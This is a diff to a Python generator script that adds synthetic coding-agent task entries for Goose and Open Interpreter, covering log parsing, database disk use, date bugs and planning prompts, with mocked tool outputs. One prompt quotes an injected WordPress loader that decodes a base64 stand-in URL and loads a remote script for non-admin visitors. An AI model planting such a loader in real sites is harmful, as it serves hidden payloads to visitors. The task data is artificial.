@@ -4390,6 +4390,278 @@ add("qwen", "review", "ko", "python",
     steps=[("read_file", {"absolute_path": f"{QW}/ingest/lib/ttlcache.py"}, S["py_ttlcache"].text)])
 
 
+# ---------------------------------------------------------------------------------------
+# Batch 3: Goose and Open Interpreter
+# ---------------------------------------------------------------------------------------
+
+def gview(path: str, sn) -> str:
+    text = sn.text if isinstance(sn, Snip) else sn
+    lang = sn.lang if isinstance(sn, Snip) else ""
+    return f"### {path}\n```{lang}\n{text}```"
+
+
+GW = "/Users/dev/work"
+
+add("goose", "refactor", "en", "python",
+    "the nginx log parser crashes on IPv6 lines and on requests with no HTTP version (\"GET /\"). make the regex handle both and count unparsed lines instead of silently skipping them",
+    rule="R3", repo="ops-tools",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/ops-tools/tools/parse_access_log.py"}, gview(f"{GW}/ops-tools/tools/parse_access_log.py", S["py_nginx"])),
+           ("developer__shell", {"command": "head -3 samples/access.log; grep -c '' samples/access.log"}, "2001:db8::1 - - [14/Oct/2025:08:12:01 +0000] \"GET /healthz HTTP/1.1\" 200 2 \"-\" \"kube-probe/1.30\"\n10.0.3.7 - - [14/Oct/2025:08:12:02 +0000] \"GET /\" 400 157 \"-\" \"-\"\n10.0.3.9 - - [14/Oct/2025:08:12:02 +0000] \"POST /api/orders HTTP/1.1\" 201 512 \"https://shop.example.com/cart\" \"Mozilla/5.0\"\n48213\n")])
+
+add("goose", "review", "en", "none",
+    "our staging postgres is at 95% disk. here's what I ran. what's eating the space and is it safe to VACUUM FULL during the day?",
+    rule="R5", repo="ops",
+    steps=[("developer__shell", {"command": "psql $STAGING_URL -c \"select relname, pg_size_pretty(pg_total_relation_size(relid)) total, n_dead_tup from pg_stat_user_tables order by pg_total_relation_size(relid) desc limit 8\""},
+            "      relname       | total  | n_dead_tup\n--------------------+--------+------------\n events             | 182 GB |  912334012\n order_items        | 21 GB  |     120331\n orders             | 9 GB   |      40112\n audit_log          | 7 GB   |          0\n sessions           | 6 GB   |   48812201\n products           | 412 MB |        201\n customers          | 380 MB |        977\n coupons            | 1 MB   |          0\n(8 rows)\n"),
+           ("developer__shell", {"command": "psql $STAGING_URL -c \"select name, setting from pg_settings where name like 'autovacuum%'\""},
+            "                name                 | setting\n-------------------------------------+-----------\n autovacuum                          | off\n autovacuum_analyze_scale_factor     | 0.1\n autovacuum_max_workers              | 3\n autovacuum_naptime                  | 60\n autovacuum_vacuum_scale_factor      | 0.2\n(5 rows)\n")])
+
+add("goose", "planning", "en", "none",
+    "/plan set up observability for our three services: metrics, logs, traces. we're on a single hetzner box with docker compose, budget is basically zero, 2 devs",
+    rule="R2", plan=True)
+
+add("goose", "completion", "en", "python",
+    "write a script that reads all the .eml files in ~/Downloads/invoices, pulls the PDF attachments out into ~/Documents/invoices/<YYYY-MM>/ based on the email Date header, and skips duplicates by sha256",
+    rule="R7")
+
+add("goose", "review", "de", "go",
+    "Was macht dieser Code genau? Ich habe das Repo geerbt und muss es nächste Woche übernehmen. Bitte in Ruhe erklären, Schritt für Schritt.",
+    rule="R3", repo="billing-api",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/billing-api/internal/api/accounts.go"}, gview(f"{GW}/billing-api/internal/api/accounts.go", S["go_handler"]))])
+
+add("goose", "planning", "de", "none",
+    "/plan Ich will meine private Fotosammlung (ca. 300 GB, verteilt auf zwei externe Platten und Google Photos) deduplizieren und in eine einheitliche Ordnerstruktur nach Jahr/Monat bringen. Backup auf ein NAS soll danach automatisch laufen.",
+    rule="R2", plan=True)
+
+add("goose", "refactor", "en", "typescript",
+    "in src/utils/dates.ts startOfWeek mutates nothing but formatRelative breaks for future dates (negative secs -> 'just now'). handle future dates as 'in X min' etc. only that function",
+    rule="R3", repo="calendar-app",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calendar-app/src/utils/dates.ts"}, gview(f"{GW}/calendar-app/src/utils/dates.ts", S["ts_dates"]))])
+
+add("goose", "review", "en", "typescript",
+    "startOfWeek(new Date('2025-10-19'), 1) gives me the 13th. sunday the 19th should map to monday the 13th, right? so is it correct or did I get lucky? check the other weekStartsOn values too",
+    rule="R6", repo="calendar-app",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calendar-app/src/utils/dates.ts"}, gview(f"{GW}/calendar-app/src/utils/dates.ts", S["ts_dates"]))])
+
+add("goose", "completion", "ja", "typescript",
+    "src/utils/dates.ts の関数それぞれに JSDoc を付けてください。引数・戻り値・例を含めて。実装は変えないで",
+    rule="R7", repo="calendar-app",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calendar-app/src/utils/dates.ts"}, gview(f"{GW}/calendar-app/src/utils/dates.ts", S["ts_dates"]))])
+
+add("goose", "planning", "en", "typescript",
+    "the calendar app does all date math with the built-in Date and we keep getting DST bugs for users in other timezones. should we go to Temporal (polyfill), date-fns-tz, or luxon? how would we migrate ~60 call sites safely",
+    rule="R6", repo="calendar-app",
+    steps=[("developer__shell", {"command": "rg -c 'new Date\\(' src | sort -t: -k2 -nr | head"}, "src/pages/Week.tsx:14\nsrc/utils/dates.ts:9\nsrc/components/EventForm.tsx:8\nsrc/pages/Month.tsx:7\nsrc/api/events.ts:6\nsrc/components/Reminder.tsx:5\nsrc/utils/recurrence.ts:5\nsrc/pages/Agenda.tsx:4\n")])
+
+add("goose", "refactor", "es", "rust",
+    "Haz que tokenize devuelva también la posición (línea y columna) de cada token, y que el error use ese formato: `linea:col: caracter inesperado 'x'`",
+    rule="R8", repo="calc-rs",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calc-rs/src/lexer.rs"}, gview(f"{GW}/calc-rs/src/lexer.rs", S["rs_lexer"]))])
+
+add("goose", "review", "en", "rust",
+    "tokenize(\"1.2.3\") returns an Err with a weird message. why? and what does it do with \"..\"?",
+    rule="R5", repo="calc-rs",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calc-rs/src/lexer.rs"}, gview(f"{GW}/calc-rs/src/lexer.rs", S["rs_lexer"])),
+           ("developer__shell", {"command": "cargo run -q -- '1.2.3'"}, "error: bad number 1.2.3: invalid float literal\n")])
+
+add("goose", "completion", "en", "rust",
+    "now write a Pratt parser in src/parser.rs that turns the Vec<Token> into an AST (enum Expr { Num, Var, Unary, Binary, Call }) with the usual precedence for + - * / and unary minus, function calls like max(a, b)",
+    rule="R7", repo="calc-rs",
+    history=[("user", "what tokens does the lexer produce?"),
+             ("assistant", "`Num(f64)`, `Ident(String)`, the four operators `Plus Minus Star Slash`, `LParen`, `RParen` and `Comma`. There is no EOF token; the parser has to check for the end of the vector itself.")],
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/calc-rs/src/lexer.rs"}, gview(f"{GW}/calc-rs/src/lexer.rs", S["rs_lexer"]))])
+
+add("goose", "planning", "en", "none",
+    "/plan migrate my team's 14 repos from Jenkins to GitHub Actions. some have docker builds, two deploy to k8s, one has a nightly job that needs a self-hosted runner with a GPU",
+    rule="R2", plan=True)
+
+add("goose", "refactor", "ru", "python",
+    "В parse_access_log.py вынеси печать отчёта в отдельную функцию report(statuses, paths, top) и добавь вывод в JSON по флагу --json. Логику парсинга не трогай.",
+    rule="R8", repo="ops-tools",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/ops-tools/tools/parse_access_log.py"}, gview(f"{GW}/ops-tools/tools/parse_access_log.py", S["py_nginx"]))])
+
+add("goose", "review", "zh", "bash",
+    "这个 deploy.sh 跑到一半报 `docker: Error response from daemon: Conflict. The container name \"/shop-api\" is already in use`，为什么前面的 docker rm 没生效？",
+    rule="R5", repo="shop-api",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/shop-api/deploy/deploy.sh"}, gview(f"{GW}/shop-api/deploy/deploy.sh", S["bash_deploy"]))])
+
+add("goose", "completion", "en", "bash",
+    "give me a one-liner to find the 20 biggest files under /var/lib/docker modified in the last 2 days, human readable sizes",
+    rule="R7")
+
+add("goose", "planning", "en", "python",
+    "I want to build an internal tool: slack command /oncall that shows who's on call from our PagerDuty schedule, lets you swap shifts, and posts a reminder the day before. what's the architecture, where do I host it, what do I build first?",
+    rule="R7")
+
+add("goose", "review", "en", "none",
+    "why is my laptop fan going crazy? ran top for you",
+    rule="R5",
+    steps=[("developer__shell", {"command": "top -l 1 -o cpu -n 8 | tail -10"}, "PID    COMMAND          %CPU  TIME     #TH   #WQ  #PORT MEM    PURG   CMPRS\n5121   com.docker.hyper 312.4 41:12:08 22/8  0    51    7989M  0B     1201M\n9933   node             98.1  02:31:40 14/1  1    43    1342M  0B     88M\n417    WindowServer     22.3  18:02:11 23    6    3216  412M   6432K  101M\n12011  Google Chrome He 11.0  00:48:02 20    1    209   388M   0B     12M\n660    mds_stores       7.4   01:10:55 6     4    77    71M    0B     20M\n0      kernel_task      6.1   05:44:29 622/12 0   0     37M    0B     0B\n14402  Slack Helper (Re 3.9   00:22:01 24    1    301   402M   0B     44M\n8801   zsh              0.0   00:00:01 1     0    21    2K     0B     1K\n"),
+           ("developer__shell", {"command": "docker stats --no-stream --format '{{.Name}} {{.CPUPerc}} {{.MemUsage}}'"}, "shop-api-db-1 2.11% 412MiB / 7.6GiB\nshop-api-web-1 0.30% 180MiB / 7.6GiB\nes-1 288.40% 4.1GiB / 7.6GiB\nredis-1 0.21% 12MiB / 7.6GiB\n")])
+
+add("goose", "refactor", "en", "go",
+    "same thing as the other handler: GetAccount should use the request context for the query timeout (2s) and not leak err.Error() to the client on 500",
+    rule="R8", repo="billing-api",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/billing-api/internal/api/accounts.go"}, gview(f"{GW}/billing-api/internal/api/accounts.go", S["go_handler"]))])
+
+add("goose", "completion", "ko", "go",
+    "internal/api/accounts_test.go 만들어줘. httptest 랑 sqlmock 써서 GetAccount 의 200, 404, 400(잘못된 id) 케이스 테스트",
+    rule="R4", repo="billing-api",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/billing-api/internal/api/accounts.go"}, gview(f"{GW}/billing-api/internal/api/accounts.go", S["go_handler"]))])
+
+add("goose", "planning", "es", "none",
+    "/plan Quiero montar un homelab: un mini PC con Proxmox, Home Assistant, Nextcloud, y que todo tenga backups y acceso remoto seguro sin abrir puertos. Dame los pasos en orden.",
+    rule="R2", plan=True)
+
+add("goose", "review", "en", "java",
+    "explain what Slugs.slugify does to 'Crème Brûlée — 2 Personen' step by step. I expected 'creme-brulee-2-personen'",
+    rule="R6", repo="cms",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/cms/src/main/java/com/acme/util/Slugs.java"}, gview(f"{GW}/cms/src/main/java/com/acme/util/Slugs.java", S["java_strutil"]))])
+
+add("goose", "refactor", "en", "java",
+    "fix slugify so the em dash and other punctuation become separators instead of vanishing, and strip leading/trailing dashes",
+    rule="R8", repo="cms",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/cms/src/main/java/com/acme/util/Slugs.java"}, gview(f"{GW}/cms/src/main/java/com/acme/util/Slugs.java", S["java_strutil"]))])
+
+add("goose", "planning", "en", "none",
+    "we have one big Rails-ish monolith in python (flask) and the team keeps stepping on each other. people say 'microservices'. I'm not convinced. help me decide: modular monolith vs splitting out 2-3 services. what would you look at, and what would the first 3 months look like?",
+    rule="R6")
+
+add("goose", "completion", "en", "python",
+    "make me a tiny CLI todo app in python, single file todo.py: add/list/done/rm commands, stores in ~/.todo.json, argparse subcommands, no dependencies",
+    rule="R7")
+
+add("goose", "review", "it", "c",
+    "Perché questo programma va in segfault quando il file ini ha una riga più lunga di 256 caratteri? Spiegami cosa succede in memoria.",
+    rule="R5", repo="fw-utils",
+    steps=[("developer__text_editor", {"command": "view", "path": f"{GW}/fw-utils/src/ini.c"}, gview(f"{GW}/fw-utils/src/ini.c", S["c_ini"]))])
+
+add("goose", "planning", "ja", "none",
+    "/plan 社内の Confluence のドキュメントを全部 Markdown に移行して GitHub の docs リポジトリで管理したい。添付ファイル、リンク、権限の扱いも含めて手順を考えて",
+    rule="R2", plan=True)
+
+add("goose", "refactor", "en", "bash",
+    "the backup cron script is below. make it stop on errors, log with timestamps to /var/log/backup.log, and send a curl to our healthchecks.io ping url (in $HC_URL) on success and /fail on failure\n\n```bash\n#!/bin/bash\ncd /srv/app\npg_dump app > /backups/app-$(date +%F).sql\ngzip /backups/app-$(date +%F).sql\nfind /backups -name '*.gz' -mtime +14 -delete\nrsync -a /backups/ backup@nas.local:/volume1/backups/app/\n```",
+    rule="R8")
+
+# --- Open Interpreter -------------------------------------------------------------------
+
+def oi_exec(lang: str, code: str, out: str, said: str = ""):
+    return ("execute", {"language": lang, "code": code}, out, said)
+
+
+add("oi", "completion", "en", "python",
+    "plot monthly revenue from sales.csv (columns: date, amount, region) as a line per region and save it as revenue.png",
+    rule="R7",
+    steps=[oi_exec("python", "import pandas as pd\ndf = pd.read_csv('sales.csv')\nprint(df.head())\nprint(df.dtypes)", "         date   amount region\n0  2024-01-03  1200.50   EMEA\n1  2024-01-03   310.00   APAC\n2  2024-01-04   980.25     NA\n3  2024-01-05    45.99   EMEA\n4  2024-01-05  2200.00     NA\ndate       object\namount    float64\nregion     object\ndtype: object\n", "Let me look at the data first.")])
+
+add("oi", "review", "en", "python",
+    "my script below dies after ~2 hours with MemoryError. why?\n\n```python\nimport json\n\nseen = {}\nwith open('events.jsonl') as f:\n    for line in f:\n        ev = json.loads(line)\n        seen[ev['id']] = ev\n        if len(seen) % 100000 == 0:\n            print(len(seen))\n\nprint('unique', len(seen))\n```",
+    rule="R5",
+    steps=[oi_exec("shell", "ls -lh events.jsonl && wc -l events.jsonl", "-rw-r--r--  1 marta  staff   61G Oct 14 09:12 events.jsonl\n 212004881 events.jsonl\n")])
+
+add("oi", "refactor", "en", "python",
+    "ok rewrite it so it only keeps the ids (not the whole events) and uses sqlite if the set gets too big",
+    rule="R8",
+    history=[("user", "my dedupe script dies after ~2 hours with MemoryError. why?"),
+             ("assistant", "It keeps every event dict in `seen`, not just the id. With 212M lines of ~300 bytes each you need far more RAM than the machine has; the dicts themselves add ~10x overhead on top of the JSON size.")],
+    code=["```python\nimport json\n\nseen = {}\nwith open('events.jsonl') as f:\n    for line in f:\n        ev = json.loads(line)\n        seen[ev['id']] = ev\n        if len(seen) % 100000 == 0:\n            print(len(seen))\n\nprint('unique', len(seen))\n```"])
+
+add("oi", "completion", "en", "bash",
+    "rename every file in this folder from 'IMG_1234.JPG' style to '2025-10-14_1234.jpg' using the EXIF date",
+    rule="R7",
+    steps=[oi_exec("shell", "ls | head; which exiftool", "IMG_4410.JPG\nIMG_4411.JPG\nIMG_4412.JPG\nIMG_4415.JPG\nIMG_4420.JPG\n/opt/homebrew/bin/exiftool\n")])
+
+add("oi", "planning", "en", "none",
+    "I have 40k scanned PDFs of old contracts. I want to be able to search them by party name, date and clause type. what's the plan? OCR, storage, search engine, and how long would it take on my M2 macbook",
+    rule="R7")
+
+add("oi", "review", "de", "python",
+    "Das Skript läuft, aber die Summe stimmt nicht mit Excel überein (Excel: 18.204,55 €, Python: 18204.549999999). Liegt das an float? Erklär mal.",
+    rule="R5",
+    steps=[oi_exec("python", "import csv\ntotal = 0\nfor row in csv.DictReader(open('rechnungen.csv', encoding='utf-8-sig'), delimiter=';'):\n    total += float(row['Betrag'].replace('.', '').replace(',', '.'))\nprint(total)", "18204.549999999\n")])
+
+add("oi", "refactor", "zh", "python",
+    "把刚才那段求和改成用 Decimal，最后按两位小数四舍五入，并且输出成德国格式（18.204,55）",
+    rule="R8",
+    history=[("user", "这个脚本算出来的总额和 Excel 对不上"),
+             ("assistant", "是浮点误差：`float` 不能精确表示 0.1 这类十进制小数，累加后出现 18204.549999999。")],
+    code=["```python\nimport csv\ntotal = 0\nfor row in csv.DictReader(open('rechnungen.csv', encoding='utf-8-sig'), delimiter=';'):\n    total += float(row['Betrag'].replace('.', '').replace(',', '.'))\nprint(total)\n```"])
+
+add("oi", "completion", "es", "python",
+    "Convierte todos los .xlsx de la carpeta 'informes' a CSV (una hoja por archivo CSV, nombre archivo_hoja.csv) y ponlos en 'informes_csv'",
+    rule="R7",
+    steps=[oi_exec("shell", "ls informes | head -20", "enero.xlsx\nfebrero.xlsx\nmarzo.xlsx\nresumen_T1.xlsx\n")])
+
+add("oi", "review", "en", "javascript",
+    "what does this minified thing do? found it injected in our wordpress footer\n\n```javascript\n(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jZG4tc3RhdHMuZXhhbXBsZS5uZXQvYS5qcw==');s.async=!0;if(!document.cookie.match(/wp-settings/)){document.head.appendChild(s)}})();\n```",
+    rule="R6")
+
+add("oi", "completion", "en", "javascript",
+    "write a node script that takes a sitemap.xml url, fetches every <loc>, and prints the ones that don't return 200, 10 at a time in parallel. node 20, no deps",
+    rule="R7")
+
+add("oi", "planning", "en", "none",
+    "I'm a data analyst, not a dev. My team wants our weekly Excel reports automated: pull from the Postgres replica, build 5 charts, email a PDF every Monday. What should the setup look like so it doesn't break when I'm on vacation?",
+    rule="R7")
+
+add("oi", "refactor", "en", "python",
+    "the chart you made has overlapping x labels and the legend covers the lines. fix that, and use thousands separators on the y axis",
+    rule="R3",
+    history=[("user", "plot monthly revenue from sales.csv as a line per region and save it as revenue.png")],
+    steps=[oi_exec("python", "import pandas as pd\nimport matplotlib.pyplot as plt\n\ndf = pd.read_csv('sales.csv', parse_dates=['date'])\nm = df.groupby([pd.Grouper(key='date', freq='MS'), 'region'])['amount'].sum().unstack()\nax = m.plot(figsize=(8, 4))\nax.set_ylabel('revenue')\nplt.savefig('revenue.png')\nprint(m.tail(3))", "region          APAC        EMEA          NA\ndate                                            \n2025-07-01  41203.11   98210.40   120443.90\n2025-08-01  39920.00  101002.55   118090.12\n2025-09-01  44811.73   97340.18   131502.66\n")])
+
+add("oi", "review", "ru", "bash",
+    "Что делает эта команда и безопасно ли её запускать? Нашёл в README старого проекта:\n\n```bash\nfind . -name '*.pyc' -o -name '__pycache__' | xargs rm -rf\n```",
+    rule="R6")
+
+add("oi", "completion", "ja", "python",
+    "このフォルダにある全部の .mp4 から音声だけ抜き出して mp3 にしてください。ffmpeg は入ってます",
+    rule="R7",
+    steps=[oi_exec("shell", "ls *.mp4 | head; ffmpeg -version | head -1", "会議_1014.mp4\n会議_1015.mp4\n勉強会_01.mp4\nffmpeg version 7.1 Copyright (c) 2000-2024 the FFmpeg developers\n")])
+
+add("oi", "review", "en", "python",
+    "this is what I got when I ran the thing you wrote, what went wrong?",
+    rule="R5",
+    history=[("user", "write a script that downloads all images from the urls in links.txt into ./imgs")],
+    steps=[oi_exec("python", "import os, requests\nos.makedirs('imgs', exist_ok=True)\nfor i, url in enumerate(open('links.txt')):\n    r = requests.get(url)\n    open(f'imgs/{i}.jpg', 'wb').write(r.content)", "Traceback (most recent call last):\n  File \"<stdin>\", line 4, in <module>\n  File \"/opt/homebrew/lib/python3.12/site-packages/requests/api.py\", line 73, in get\n    return request(\"get\", url, params=params, **kwargs)\n  File \"/opt/homebrew/lib/python3.12/site-packages/requests/sessions.py\", line 575, in request\n    prep = self.prepare_request(req)\n  File \"/opt/homebrew/lib/python3.12/site-packages/requests/models.py\", line 439, in prepare_url\n    raise InvalidURL(f\"Invalid URL {url!r}: No host supplied\")\nrequests.exceptions.InvalidURL: Invalid URL 'https://\\n': No host supplied\n")])
+
+add("oi", "refactor", "en", "python",
+    "fix the downloader: strip lines, skip blanks, keep the original extension from the url, and don't die on one bad url",
+    rule="R3",
+    history=[("user", "write a script that downloads all images from the urls in links.txt into ./imgs"),
+             ("assistant", "The loop reads each line with its trailing newline, so `requests.get` sees `'https://...\\n'`, and a blank line becomes `'\\n'`.")],
+    steps=[oi_exec("python", "print(open('links.txt').read()[:400])", "https://images.example.org/cats/01.png\nhttps://images.example.org/cats/02.webp\n\nhttps://cdn.example.com/p/9913.jpg?w=1200\nhttps://\n")])
+
+add("oi", "planning", "zh", "none",
+    "我想把家里的旧电脑改成一个小服务器，跑几个爬虫脚本，每天定时抓数据存到数据库里，出问题能通知到我手机。应该怎么规划？用什么数据库、怎么调度、怎么监控",
+    rule="R7")
+
+add("oi", "completion", "en", "python",
+    "get me the list of all python packages installed in this venv that have a newer version available, as a markdown table with current and latest",
+    rule="R7")
+
+add("oi", "review", "es", "python",
+    "¿Qué diferencia hay entre `df.loc[df.a > 0, 'b'] = 1` y `df[df.a > 0]['b'] = 1`? La segunda me da un SettingWithCopyWarning y no cambia nada",
+    rule="R6")
+
+add("oi", "refactor", "en", "javascript",
+    "make this callback code use async/await and fs/promises, and run the resizes with a concurrency limit of 4",
+    rule="R8", code=S["js_fs_callbacks"])
+
+add("oi", "completion", "ko", "bash",
+    "현재 폴더 아래 모든 git 저장소에서 main 브랜치로 pull 하는 스크립트 짜줘. 변경사항 있는 저장소는 건너뛰고 목록 출력",
+    rule="R7")
+
+add("oi", "planning", "en", "python",
+    "I wrote a bunch of jupyter notebooks for our pricing model and now 3 people need to run them. how do I turn this into something maintainable? package, tests, scheduling, where the data lives. step by step please, I've never done this",
+    rule="R7")
+
+add("oi", "review", "en", "none",
+    "my brew upgrade output, anything to worry about?\n\n```\n==> Upgrading 14 outdated packages:\npython@3.12 3.12.6 -> 3.12.7\nopenssl@3 3.3.2 -> 3.4.0\npostgresql@16 16.4 -> 16.5\n...\nError: postgresql@16: the bottle needs the Apple Command Line Tools to be installed.\n  You can install them, if desired, with:\n    xcode-select --install\nWarning: The post-install step did not complete successfully\nYou can try again using:\n  brew postinstall openssl@3\n==> Caveats\npostgresql@16: This formula has created a default database cluster with:\n  initdb --locale=C -E UTF-8 /opt/homebrew/var/postgresql@16\n```",
+    rule="R5")
+
+
 # === MAIN ===
 
 def opening(text: str, n: int = 3) -> str:
